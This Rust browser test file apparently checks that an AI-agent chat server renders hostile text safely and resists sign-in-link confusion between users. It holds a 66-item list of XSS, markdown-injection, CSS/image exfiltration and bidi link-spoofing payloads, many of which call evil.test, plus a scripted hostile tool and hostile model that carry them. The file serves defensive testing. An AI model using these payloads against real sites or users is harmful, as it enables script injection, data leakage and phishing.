//! A real Chromium and a real server: it opens conversations that are full of hostile text (`security.md` T6), and sign-in
//! links of others (T9).

use crate::{
    harness::{MODELS, Omega, execute, executor::id, message, people::Person, skip, within},
    planning::plans,
};
use omega_core::{
    api::{CreateConversation, RunStatus},
    testing::{Reply, Script},
};
use serde_json::{Value, json};
use std::{
    path::{Path, PathBuf},
    time::Duration,
};
use tokio::process::Command;

const EXECUTE: &str = "registryExecuteTool";

/// Markup, links, images, schemes and confusions of parsers; `pwned` is what runs if anything does.
const PAYLOADS: [&str; 66] = [
    "<script>pwned(1)</script>",
    "<img src=x onerror=pwned(2)>",
    "<svg onload=pwned(3)>",
    "<svg><script>pwned(4)</script></svg>",
    "<iframe src=\"javascript:pwned(5)\"></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned(6)</script>\"></iframe>",
    "<a href=\"javascript:pwned(7)\">click</a>",
    "[click](javascript:pwned(8))",
    "[click](JaVaScRiPt:pwned(9))",
    "[click](java\tscript:pwned(10))",
    "[click](\u{1}javascript:pwned(11))",
    "[click](&#106;avascript:pwned(12))",
    "[click](vbscript:pwned(13))",
    "[click](data:text/html,<script>pwned(14)</script>)",
    "![image](http://evil.test/15?q=secret)",
    "![image](https://evil.test/16)",
    "![image](//evil.test/17)",
    "![image](data:image/svg+xml,<svg onload=pwned(18)>)",
    "<img src=\"http://evil.test/19\">",
    "<img srcset=\"http://evil.test/20 1x\">",
    "<link rel=stylesheet href=http://evil.test/21>",
    "<style>@import 'http://evil.test/22';</style>",
    "<style>body{background:url(http://evil.test/23)}</style>",
    "<div style=\"background:url(http://evil.test/24)\">x</div>",
    "<object data=\"http://evil.test/25\"></object>",
    "<embed src=\"http://evil.test/26\">",
    "<video src=\"http://evil.test/27\" onerror=pwned(27)></video>",
    "<audio src=x onerror=pwned(28)></audio>",
    "<body onload=pwned(29)>",
    "<details open ontoggle=pwned(30)>x</details>",
    "<input autofocus onfocus=pwned(31)>",
    "<form action=http://evil.test/32><button autofocus>x</button></form>",
    "<base href=\"http://evil.test/33/\">",
    "<meta http-equiv=refresh content=\"0;url=http://evil.test/34\">",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned(35)>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned(36)>\"></noscript>",
    "<template><script>pwned(37)</script></template>",
    "`<script>pwned(38)</script>`",
    "```html\n<script>pwned(39)</script>\n```",
    "```\"><script>pwned(40)</script>\nx\n```",
    "<!--><script>pwned(41)</script>-->",
    "<![CDATA[<script>pwned(42)</script>]]>",
    "</textarea><script>pwned(43)</script>",
    "</title><script>pwned(44)</script>",
    "\"><img src=x onerror=pwned(45)>",
    "'onmouseover='pwned(46)",
    "[x](http://evil.test/47 \"title\\\" onmouseover=pwned(47)\")",
    "[x]: javascript:pwned(48)\n\n[x]",
    "<http://evil.test/49>",
    "<javascript:pwned(50)>",
    "| a |\n| - |\n| <img src=x onerror=pwned(51)> |",
    "- <img src=x onerror=pwned(52)>",
    "# <img src=x onerror=pwned(53)>",
    "> <img src=x onerror=pwned(54)>",
    "{{constructor.constructor('pwned(55)')()}}",
    "${pwned(56)}",
    "<x onclick=pwned(57) tabindex=1 autofocus onfocus=pwned(57)>x</x>",
    "<a href=\"//evil.test/58\" ping=\"http://evil.test/58\">x</a>",
    "<xml><a id=x><b onerror=pwned(59)></xml>",
    "<marquee onstart=pwned(60)>x</marquee>",
    "a \u{202e}gpj.61\u{202c}exe",
    "`\u{202d}code 62\u{202c}` \u{2066}and\u{2069}\u{200b}",
    "[https://bank.test](https://evil.test/63)",
    "[bank.test/login](https://bank.test@evil.test/64)",
    "&#x202e;65 [\u{202e}x](https://evil.test/65)",
    "[^x] $$\u{202e}66$$ <img src=x onerror=pwned(66)>\n\n[^x]: <script>pwned(66)</script> \u{202e}",
];

/// A document in which each payload is a message, an answer, the input and the output of a tool, its name and its author's.
fn document(from: usize, payloads: &[&str]) -> Value {
    let (conversation, at) = (uuid::Uuid::new_v4().to_string(), "2026-11-22T18:00:00.000Z");
    let mut events: Vec<Value> = Vec::new();
    for (number, payload) in (from..).zip(payloads) {
        let new = || uuid::Uuid::new_v4().to_string();
        let (run, user, answer, tool) = (new(), new(), new(), new());
        let text = format!("mark-{number}- {payload}");
        let mut push = |mut event: Value| {
            let seq = events.len() + 1;
            for (name, value) in
                [("v", json!(1)), ("seq", json!(seq)), ("conversationId", json!(conversation)), ("at", json!(at))]
            {
                event[name] = value;
            }
            event["runId"] = json!(run);
            events.push(event);
            seq
        };
        let parts = json!([{ "type": "text", "text": text }]);
        let author = json!({ "userId": new(), "displayName": payload, "gravatarHash": "" });
        let asked = push(json!({ "type": "message.created" }));
        push(json!({ "type": "run.queued", "position": 0, "run": {
            "id": run, "conversationId": conversation, "messageId": user, "status": "queued", "model": MODELS[0], "steps": 0,
            "toolCalls": 0, "usage": {}, "createdAt": at } }));
        push(json!({ "type": "run.started", "attempt": 1, "model": MODELS[0], "promptVersion": "1" }));
        let began = push(json!({ "type": "run.step.started", "stepIndex": 1, "messageId": answer }));
        let call = json!({ "type": "tool-call", "toolCallId": "c", "toolName": payload, "arguments": json!({ "a": payload }).to_string() });
        push(json!({ "type": "message.completed", "message": {
            "id": answer, "seq": began, "runId": run, "step": 1, "role": "assistant", "status": "complete", "content": "",
            "parts": [{ "type": "reasoning", "text": text }, { "type": "text", "text": text }, call], "createdAt": at } }));
        push(json!({ "type": "run.step.tool.proposed", "toolRunId": tool, "messageId": answer, "toolCallId": "c",
            "toolId": format!("evil::{payload}"), "toolName": payload, "version": payload, "input": { payload.to_owned(): payload } }));
        // What people answered, and what they said of it.
        let by = new();
        for answer in [
            json!({ "type": "approval.decided", "approvalId": new(), "toolRunId": tool, "decision": "deny", "remember": "once", "reason": text, "by": by }),
            json!({ "type": "credentials.provided", "names": [payload], "save": "once", "by": by }),
            json!({ "type": "alternatives.selected", "toolRunId": tool, "toolId": format!("evil::{payload}"), "by": by }),
        ] {
            push(answer);
        }
        push(
            json!({ "type": "run.step.tool.completed", "toolRunId": tool, "toolCallId": "c", "toolName": payload, "version": payload,
            "status": "succeeded", "output": { "html": payload, payload.to_owned(): [payload] }, "outputSummary": payload,
            "outputBytes": 10, "truncated": false, "durationMs": 1, "isError": false }),
        );
        push(json!({ "type": "run.completed", "answer": text, "usage": {}, "toolCalls": 1, "steps": 1 }));
        let said = json!({ "userId": by, "displayName": payload, "gravatarHash": "" });
        push(json!({ "type": "feedback.given", "feedback": {
            "runId": run, "author": said, "rating": "bad", "feltReal": false, "comment": text, "at": at } }));
        push(json!({ "type": "notice", "code": "X", "message": payload }));
        events[asked - 1]["message"] = json!({ "id": user, "seq": asked, "runId": run, "role": "user", "status": "complete",
            "content": text, "parts": parts, "author": author, "createdAt": at });
    }
    let last = events.iter_mut().rev().find(|event| event["type"] == "message.completed").unwrap();
    last["message"]["parts"][1]["text"] = json!("this is the last of them");
    json!({ "format": omega_core::export::FORMAT, "id": conversation, "title": "</title><script>pwned('title')</script>",
        "model": MODELS[0], "createdAt": at, "events": events })
}

pub fn chromium() -> Option<PathBuf> {
    let named = std::env::var_os("OMEGA_CHROMIUM").map(PathBuf::from);
    let path = std::env::var_os("PATH").unwrap_or_default();
    let names = ["chromium", "chromium-browser", "google-chrome"];
    let found = || {
        std::env::split_paths(&path).flat_map(|folder| names.map(|name| folder.join(name))).find(|file| file.is_file())
    };
    named.or_else(found)
}

/// A script of `web/test/browser` in a real Chromium, when there is one; what it says.
pub async fn in_browser(omega: &Omega, script: &str, variables: &[(&str, &str)]) -> Option<Value> {
    at_browser(&omega.url, script, variables).await
}

/// The same, at a server's address.
pub async fn at_browser(url: &str, script: &str, variables: &[(&str, &str)]) -> Option<Value> {
    let web = Path::new(env!("CARGO_MANIFEST_DIR")).join("web");
    let lacks = |why| {
        skip(why);
        None
    };
    let Some(chromium) = chromium() else { return lacks("there is no Chromium; install it, or set OMEGA_CHROMIUM") };
    if !web.join("node_modules/playwright-core").is_dir() {
        return lacks("playwright-core is missing: run `npm ci` in omega-server/web");
    }
    let mut node = Command::new("node");
    node.arg(web.join("test/browser").join(script)).current_dir(&web).kill_on_drop(true);
    node.env("OMEGA_URL", url).env("OMEGA_CHROMIUM", chromium).envs(variables.iter().copied());
    let output = node.output().await.unwrap();
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success(), "{said}{}", String::from_utf8_lossy(&output.stderr));
    Some(serde_json::from_str(said.lines().last().unwrap()).unwrap())
}

/// Milliseconds that a browser saw, in those of a machine of the usual speed.
pub fn usual(seen: &Value, ms: &Value) -> f64 {
    ms.as_f64().unwrap() / seen["slowness"].as_f64().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_browser_neither_becomes_another_user_nor_grants_by_accident() {
    let call = execute(&id("acmeLarge"), json!({ "bytes": 10 }));
    let omega = Omega::start(Script::new().turn(Reply::call(EXECUTE, call)).turn(Reply::text("Two."))).await;
    let (ada, mallory) = (Person::new(&omega, "Ada", None).await, Person::new(&omega, "Mallory", None).await);
    let body = CreateConversation { model: Some(MODELS[0].into()), safe_mode: Some(true), ..<_>::default() };
    let conversation = ada.client.create_conversation(&body).await.unwrap().id;
    ada.client.send_message(conversation, &message("go"), "one").await.unwrap();
    within("the run waits for approval", async {
        while ada.client.conversation(conversation).await.unwrap().runs[0].status != RunStatus::Paused {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    })
    .await;
    let (sent, link) =
        (mallory.client.sign_in_link().await.unwrap().code, ada.client.sign_in_link().await.unwrap().code);
    let variables = [
        ("OMEGA_KEY", ada.key.as_str()),
        ("OMEGA_CONVERSATION", &conversation.to_string()),
        ("OMEGA_SENT", &sent),
        ("OMEGA_LINK", &link),
    ];
    let Some(seen) = in_browser(&omega, "asks.mjs", &variables).await else { return };
    for (what, is) in [
        ("opened", json!("Ada")),
        ("stayed", json!("Ada")),
        ("led", json!("Ada")),
        ("ledAndStayed", json!("Ada")),
        ("wished", json!("Mallory")),
        ("spent", json!("Mallory")),
        ("ledNobody", Value::Null),
        ("wishedNobody", json!("Ada")),
        ("atOnce", json!([true, 0, true])),
        ("saidOnce", json!([true, 0])),
        ("saidTwice", json!(1)),
        ("takenBack", json!(0)),
    ] {
        assert_eq!(seen[what], is, "{what}: {seen:#}");
    }
}

/// All payloads, each with a mark before it.
fn all_payloads() -> String {
    PAYLOADS.iter().enumerate().map(|(number, payload)| format!("live-{number}- {payload}\n")).collect()
}

/// A tool whose publisher means no good: it says all of it of itself and of the variable that it wants.
fn hostile_tool() -> Vec<u8> {
    let words = all_payloads();
    json!({
        "toolId": "evil-tools::acmeKeyed", "name": "acmeKeyed", "package": "evil-tools", "version": "1.0.0", "category": "other",
        "description": words, "env": [{ "name": "EVIL_KEY", "description": words, "required": true }],
        "inputSchema": { "type": "object", "properties": { "a": { "type": "string", "description": words } } },
    })
    .to_string()
    .into_bytes()
}

/// A model that does too: its plan, its call and what it says of them are hostile.
fn hostile_model() -> Script {
    let words = all_payloads();
    let step = json!({ "toolName": "evil-tools::acmeKeyed", "purpose": words, "expectedOutput": words });
    let plan = json!({ "plans": [{ "steps": [step, step], "confidence": 0.5, "reasoning": words }] });
    let call = execute("evil-tools::acmeKeyed", json!({ "a": words }));
    Script::new()
        .when(plans, [Reply::text("never"), Reply::text(&plan.to_string())])
        .turn(Reply::call(EXECUTE, call))
        .turn(Reply::text(&words))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_text_of_a_stranger_runs_or_calls_out() {
    let omega = Omega::start(hostile_model()).await;
    omega.client.import_tools(hostile_tool()).await.unwrap();
    let name = "\u{202e}Ada <img src=x onerror=pwned(0)>";
    let ada = Person::new(&omega, name, None).await;
    // No more in one than the page shows at once.
    let mut conversations = Vec::new();
    for (part, payloads) in PAYLOADS.chunks(15).enumerate() {
        let document = serde_json::to_vec(&document(part * 15, payloads)).unwrap();
        conversations.push(ada.client.import_conversation(document).await.unwrap().id.to_string());
    }
    let body = CreateConversation { model: Some(MODELS[0].into()), safe_mode: Some(true), ..<_>::default() };
    let live = ada.client.create_conversation(&body).await.unwrap().id.to_string();
    let variables =
        [("OMEGA_KEY", ada.key.as_str()), ("OMEGA_CONVERSATIONS", &conversations.join(",")), ("OMEGA_LIVE", &live)];
    let Some(seen) = in_browser(&omega, "hostile.mjs", &variables).await else { return };
    assert_eq!(seen["error"], Value::Null, "{seen:#}");
    assert_eq!(seen["dialogs"], json!([]), "{seen:#}");
    assert_eq!(seen["ran"], json!([]), "{seen:#}");
    assert_eq!(seen["foreign"], json!([]), "{seen:#}");
    assert_eq!(seen["elements"], json!([]), "{seen:#}");
    assert_eq!(seen["handlers"], json!([]), "{seen:#}");
    assert_eq!(seen["turning"], 0, "{seen:#}");
    let hosts = seen["hosts"].as_array().unwrap();
    assert!(hosts.iter().filter(|host| *host == "(evil.test)").count() >= 2, "{seen:#}");
    // The page really showed them.
    assert_eq!(seen["shown"].as_array().unwrap().len(), PAYLOADS.len(), "{seen:#}");
    assert!(seen["cards"].as_u64().unwrap() > 1000, "{seen:#}");
    let number = |value: &Value| usize::try_from(value.as_u64().unwrap()).unwrap();
    for (place, least) in [("answers", 3 * PAYLOADS.len()), ("said", PAYLOADS.len()), ("hits", PAYLOADS.len())] {
        assert!(number(&seen[place]) >= least, "{place}: {seen:#}");
    }
    let named = &seen["named"];
    assert!(number(&named[0]) >= 12 && named[1] == 0, "names are shown, and nothing hides in them: {seen:#}");
    // What is said of a variable is cut before it is asked for; the statistics have a name alone.
    for (place, least) in [
        ("plan", PAYLOADS.len()),
        ("approval", PAYLOADS.len()),
        ("credentials", 1),
        ("call", PAYLOADS.len()),
        ("statistics", 1),
    ] {
        assert!(number(&seen["live"][place]) >= least, "{place}: {seen:#}");
    }
}
